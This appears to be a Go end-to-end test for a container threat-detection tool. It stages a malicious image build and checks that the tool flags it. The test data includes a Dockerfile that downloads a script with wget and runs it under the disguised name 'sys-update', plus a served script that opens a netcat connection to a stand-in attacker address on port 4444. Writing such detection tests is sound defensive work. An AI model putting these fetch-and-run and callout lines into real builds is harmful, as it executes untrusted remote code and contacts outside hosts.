//go:build e2e

package e2e

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

const (
	baseImage  = "198.51.100.40:5000/base/busybox:1"
	released   = "198.51.100.40:5000/team/app:7"
	disguised  = "sys-update:latest"
	badBuild   = "FROM " + baseImage + "\nRUN wget -q -O /tmp/x http://198.51.100.10/install.sh && chmod +x /tmp/x\nENTRYPOINT [\"/bin/sh\",\"/tmp/x\"]\n"
	goodBuild  = "FROM " + baseImage + "\nRUN mkdir -p /pkg && wget -q -O /pkg/index http://198.51.100.20/pkg/index\nCOPY index.html /www/index.html\nCMD [\"httpd\",\"-f\",\"-p\",\"80\",\"-h\",\"/www\"]\n"
	hostPolicy = `version: 1
learning: 7d
default_scope: lab
scopes:
  lab:
    registries: ["198.51.100.40:5000/*"]
    approved_destinations: ["198.51.100.40", "198.51.100.20"]
`
	hostInputs = "hosts:\n  - {name: lab, ips: [" + hostAddress + "]}\n"
)

// The host's own pipeline builds an image of an approved base, with packages
// from an approved mirror, pushes it and tries it. Then a stranger has the same
// host build another image, of the same base, which fetches a script, and runs
// it there. Both by both builders of a real Docker Engine.
func TestBuildersRecordedHere(t *testing.T) {
	for name, buildKit := range map[string]string{"classic": "0", "BuildKit": "1"} {
		t.Run(name, func(t *testing.T) { builderRecordedHere(t, buildKit) })
	}
}

func builderRecordedHere(t *testing.T, buildKit string) {
	env := "DOCKER_BUILDKIT=" + buildKit
	if out, err := exec.Command("env", env, "/usr/bin/docker", "build", "--help").CombinedOutput(); strings.Contains(string(out), "buildx component is missing") {
		t.Skipf("docker's client has no BuildKit (apt-get install docker-buildx): %v", err)
	}
	l := newLab(t, "-H", "tcp://"+hostAddress+":2375", "--tls=false")
	l.serve("install.sh", "#!/bin/sh\nnc -w 2 203.0.113.66 4444 </dev/null\nsleep 60\n")
	l.serve("pkg/index", "demo 1.0\n")
	l.push(baseImage, "#!/bin/sh\n")
	policy, inputs := filepath.Join(l.dir, "policy.yaml"), filepath.Join(l.dir, "inputs.yaml")
	l.write(policy, hostPolicy)
	l.write(inputs, hostInputs)
	home := "DOCKER_CONFIG=" + filepath.Join(l.dir, "client")

	l.record("pipeline")
	good := l.context("good", goodBuild)
	l.docker("pull", "-q", baseImage)
	l.must("env", env, home, "/usr/bin/docker", "-H", "unix://"+l.socket, "build", "--no-cache", "-q", "-t", released, good)
	l.docker("push", "-q", released)
	tried := l.docker("run", "-d", "--name", "app", released)
	time.Sleep(time.Second)
	l.keep("inspect.json", l.docker("inspect", "app"))
	l.keep("inspect-image.json", l.docker("image", "inspect", released))
	l.docker("rm", "-f", "app")
	l.stop()
	pipeline := l.logs

	l.record("stranger")
	bad := l.context("bad", badBuild)
	remote := []string{"--net=/run/netns/" + l.inet, "--setuid", nobody, "--setgid", nobody, "env", env, home, "/usr/bin/docker", "-H", "tcp://" + hostAddress + ":2375"}
	l.must("nsenter", append(remote, "build", "--no-cache", "-q", "-t", disguised, bad)...)
	ran := strings.TrimSpace(l.must("nsenter", append(remote, "run", "-d", "--name", "upd", disguised)...))
	time.Sleep(2 * time.Second)
	l.keep("inspect.json", l.docker("inspect", "upd"))
	l.keep("inspect-image.json", l.docker("image", "inspect", disguised))
	l.docker("rm", "-f", "upd")
	l.stop()

	// Who called is known only to whom the host's own address is told; whose
	// finding it is must not depend on it.
	for _, inventory := range [][]string{nil, {"--inputs", inputs}} {
		options := append([]string{"hunt", "--host", "lab", "--policy", policy}, inventory...)
		if fs := huntHere(t, append(options, pipeline)...); len(fs) > 0 {
			t.Errorf("the pipeline's build gives findings: %+v", fs)
		}
		for _, paths := range [][]string{{l.logs}, {pipeline, l.logs}} {
			fs := huntHere(t, append(options, paths...)...)
			if len(fs) != 1 || fs[0].Unmapped.Entities[0].ContainerID != ran || ran == tried {
				t.Fatalf("%d findings, want one on %s: %+v", len(fs), ran, fs)
			}
			checkCitations(t, fs[0])
			if inventory != nil {
				checkBuild(t, fs[0])
			}
		}
	}
	text, _, _ := run(t, nil, "hunt", "--host", "lab", "--policy", policy, "--inputs", inputs, l.logs)
	t.Logf("the finding:\n%s", text)
}

// context writes a build's context.
func (l *lab) context(name, dockerfile string) string {
	dir := filepath.Join(l.dir, name)
	if err := os.Mkdir(dir, 0o755); err != nil {
		l.t.Fatal(err)
	}
	l.write(filepath.Join(dir, "Dockerfile"), dockerfile)
	l.write(filepath.Join(dir, "index.html"), "<h1>app 7</h1>\n")
	return dir
}

// huntHere gives the findings above info of a hunt that must read everything.
func huntHere(t *testing.T, args ...string) []found {
	t.Helper()
	stdout, stderr, _ := run(t, nil, append(args, "-o", "json", "--min-severity", "low")...)
	if strings.Contains(stderr, "unreadable") || strings.Contains(stderr, "not read") {
		t.Errorf("not everything was read:\n%s", stderr)
	}
	return findings(t, stdout)
}

// checkBuild wants the request, what was fetched, the image, the run and what it
// did in a finding.
func checkBuild(t *testing.T, f found) {
	t.Helper()
	var analytics []string
	for _, a := range f.Unmapped.Analytics {
		analytics = append(analytics, a.Analytic)
	}
	for _, id := range []string{"AN0691", "AN1261"} {
		if !slices.Contains(analytics, id) {
			t.Errorf("%s is not raised, only %v", id, analytics)
		}
	}
	cited := map[string]bool{}
	for _, e := range f.Evidences {
		cited[e.Data.Leg+" by "+e.Data.Source] = true
	}
	for _, want := range []string{"build by dockerd", "build by conntrack", "build by auditd", "fetch by conntrack", "arrival by docker",
		"creation by dockerd", "creation by docker", "start by docker", "command by auditd", "egress by conntrack"} {
		if !cited[want] {
			t.Errorf("not cited: %s, only %v", want, cited)
		}
	}
}
